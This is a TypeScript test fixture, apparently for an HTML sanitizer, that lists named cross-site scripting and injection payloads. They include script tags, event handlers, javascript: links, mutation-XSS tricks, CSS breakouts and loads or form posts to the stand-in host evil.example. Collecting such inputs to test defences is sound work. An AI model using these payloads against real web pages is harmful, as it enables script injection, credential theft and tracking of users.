/** Each tries to run something, to load something, or to leave its place. */
export const HOSTILE_HTML: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals with a source': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a script split by a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script that does not end': '<p>a<script>alert(1)',
  'a script with a slash for a blank': '<script/x>alert(1)</script>',
  'a script after a closed comment trick': '<!--><script>alert(1)</script>-->',
  'a comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a comment that a quote hides': '<!-- "--><img src=x onerror=alert(1)>"',
  'a processing instruction': '<?xml version="1.0"?><?a ><img src=x onerror=alert(1)>?>',
  'a CDATA section': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'an error handler': '<img src=x onerror=alert(1)>',
  'a handler without blanks': '<img/src="x"/onerror="alert(1)">',
  'a handler behind a form feed': '<img src=x\fonerror=alert(1)>',
  'a handler with an entity for its colon': '<a href="javascript&colon;alert(1)">x</a>',
  'a handler name in capitals': '<b ONMOUSEOVER=alert(1)>x</b>',
  'a handler on the body': '<body onload=alert(1)>x</body>',
  'a handler on an unknown element': '<x onfocus=alert(1) tabindex=0 autofocus>x</x>',
  'a pointer handler': '<div onpointerover="alert(1)" style="width:100%">x</div>',
  'a handler on details': '<details open ontoggle=alert(1)>x</details>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'javascript in a link': '<a href="javascript:alert(1)">x</a>',
  'javascript with a tab in it': '<a href="java&#9;script:alert(1)">x</a>',
  'javascript with a line feed in it': '<a href="java\nscript:alert(1)">x</a>',
  'javascript behind control characters': '<a href="\u0001\u0002javascript:alert(1)">x</a>',
  'javascript in decimal entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  'javascript in long entities without semicolons':
    '<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">x</a>',
  vbscript: '<a href="vbscript:msgbox(1)">x</a>',
  'a link to data': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'a link to a blob': '<a href="blob:https://a.example/1">x</a>',
  'a link to a file': '<a href="file:///etc/passwd">x</a>',
  'an image map': '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m src=x>',
  'a base address': '<base href="https://evil.example/"><a href="x">x</a><img src="x.png">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a policy of its own': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'a linked style sheet': '<link rel=stylesheet href="https://evil.example/x.css">',
  'a preload': '<link rel=preload as=image href="https://evil.example/x.png">',
  'a frame': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  frames: '<frameset><frame src="javascript:alert(1)"></frameset>',
  'markup inside a frame': '<iframe><img src=x onerror=alert(1)></iframe>',
  'an object': '<object data="javascript:alert(1)"><img src=x onerror=alert(1)></object>',
  'an embed': '<embed src="javascript:alert(1)">',
  'an applet': '<applet code=x><img src=x onerror=alert(1)></applet>',
  'a portal': '<portal src="https://evil.example/"></portal>',
  'a form':
    '<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  'a form around the page': '<form id=a></form><button form=a formaction="javascript:alert(1)">x</button>',
  'an image button': '<input type=image src=x onerror=alert(1)>',
  'a keygen and an isindex':
    '<isindex action="javascript:alert(1)" type=image><keygen autofocus onfocus=alert(1)>',
  'a text area that hides markup':
    '<textarea><img src=x onerror=alert(1)></textarea><img src=y onerror=alert(2)>',
  'a title that hides markup': '<title><img src="</title><img src=x onerror=alert(1)>"></title>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'xmp mutation': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  'noembed mutation': '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  'noframes mutation': '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a shadow root': '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  'svg with a handler': '<svg onload=alert(1)>',
  'svg with a script': '<svg><script>alert(1)</script></svg>',
  'svg with a style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'svg with an animated link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  'svg with foreign content':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'svg with a use': '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
  'svg in an image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'math with a link': '<math href="javascript:alert(1)">x</math>',
  'math mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'math mutation by annotation':
    '<math><annotation-xml encoding="text/html"><p><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  'form mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'svg mutation by a paragraph': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'select mutation': '<select><style></select><img src=x onerror=alert(1)></style>',
  'table mutation': '<table><style><td title="</style><img src=x onerror=alert(1)>"></table>',
  'a style that breaks out': '<style></style><img src=x onerror=alert(1)></style>',
  'a style that breaks out by a string':
    '<style>a{font-family:"</style><img src=x onerror=alert(1)>"}</style>',
  'a style that breaks out by an escape':
    '<style>a{font-family:"\\3c/style\\3e\\3cimg src=x onerror=alert(1)\\3e"}</style>',
  'an import': '<style>@import "https://evil.example/x.css"; a{color:red}</style>',
  'an import in capitals and escapes': '<style>@\\69MPORT url(//evil.example/x.css);</style>',
  'a font': '<style>@font-face{font-family:x;src:url(//evil.example/f)} b{font-family:x}</style>',
  'a picture in a style sheet':
    '<style>b{background:url(//evil.example/x)} i{background:image-set("//evil.example/x" 1x)}</style>',
  'a rule for the page around':
    '<style>html,:root,body>*{display:none} *{position:fixed} .sidebar{color:red} #app{color:red}</style>',
  'a rule that closes its scope': '<style>}} .x{position:fixed} @media screen{{ .y{color:red}</style>',
  'a rule with a nested one': '<style>.a{color:red; & ~ .b{position:fixed} }</style>',
  'a layer, a container and a supports':
    '<style>@layer x{b{position:fixed}} @container (width>1px){b{color:red}} @supports (a:b){b{position:fixed}}</style>',
  'words from a style': '<style>b::before{content:"Your password:"} b{content:url(//evil.example/x)}</style>',
  'a fixed box': '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  'a fixed box by an escape': '<div style="po\\73ition:fi\\78 ed">x</div>',
  'a sticky and an absolute box':
    '<div style="position:sticky;inset:0"><div style="position:absolute;transform:scale(99)">x</div></div>',
  'an expression': '<div style="width:expression(alert(1))">x</div>',
  'an expression with a comment in it': '<div style="width:exp/**/ression(alert(1))">x</div>',
  'a behaviour and a binding': '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>',
  'a picture in a style': '<div style="background:url(https://evil.example/x)">x</div>',
  'a picture in a style by an escape': '<div style="background:\\75rl(https://evil.example/x)">x</div>',
  'a picture in a custom property':
    '<div style="--x:url(https://evil.example/x);background:var(--x)">x</div>',
  'a cursor and a list picture':
    '<ul style="cursor:url(//evil.example/c),auto;list-style-image:url(//evil.example/l);list-style:url(//evil.example/l)"><li>x</ul>',
  'a cross fade':
    '<div style="background:-webkit-cross-fade(url(//evil.example/a),url(//evil.example/b),50%)">x</div>',
  'a filter': '<div style="filter:url(//evil.example/f.svg#x);mask:url(//evil.example/m)">x</div>',
  'a style that ends its attribute': `<div style='color:"><img src=x onerror=alert(1)>'>x</div>`,
  'a style with a quote of its own': `<div style="font-family:'&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'">x</div>`,
  'a background attribute':
    '<table background="https://evil.example/x"><td background="javascript:alert(1)">x</table>',
  'a srcset':
    '<img src="cid:a" srcset="https://evil.example/x 2x"><picture><source srcset="https://evil.example/y"><img src="cid:a"></picture>',
  'a poster':
    '<video poster="https://evil.example/x" src="https://evil.example/v"><source src="https://evil.example/w"></video>',
  'a sound':
    '<audio src="https://evil.example/x" autoplay onerror=alert(1)></audio><bgsound src="javascript:alert(1)">',
  'a low source and a dynamic source':
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" longdesc="javascript:alert(1)">',
  'a ping': '<a href="https://a.example/" ping="https://evil.example/" download=x>x</a>',
  'a window to talk to': '<a href="https://a.example/" target="_top" rel="opener">x</a>',
  'names of the page':
    '<img id=getElementById name=body><a id=location name=location>x</a><p class="fixed inset-0 sidebar">x</p>',
  'a mark that claims to be ours':
    '<p data-part="quoted" data-remote-src="javascript:alert(1)" data-x=y>x</p>',
  'an attribute name with a quote': '<p "onclick="alert(1)" a"b=c \'=d>x</p>',
  'an attribute name that is an object': '<p __proto__=x constructor=y tostring=z>x</p>',
  'an attribute with a backquote': '<img src=`x` onerror=`alert(1)` alt="`onerror=alert(1)">',
  'a quote in a title': `<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>`,
  'a NUL in a name': '<scr\0ipt>alert(1)</scr\0ipt><img src=x on\0error=alert(1)>',
  'overlong and half characters': '<p title="\ud800">\udc00</p><img src="\ud800:x">',
  'a tag without end': '<img src=x onerror=alert(1) ',
  'a tag inside a tag': '<p <img src=x onerror=alert(1)>>x',
  'a closing tag with attributes': '</p onclick=alert(1)><//p><p//onclick=alert(1)>x',
  'an image that is an image': '<image src=x onerror=alert(1)>',
  'a content id with markup': '<img src="cid:a&quot; onerror=alert(1)">',
  'an xlink': '<a xlink:href="javascript:alert(1)" xml:base="javascript:alert(1)//">x</a>',
  'a name space of its own':
    '<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect onclick=alert(1) style="behavior:url(#default#VML)"/>x',
  'editable text': '<p contenteditable autofocus onfocus=alert(1) accesskey=x>x</p>',
  'a dialog and a popover':
    '<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>',
}
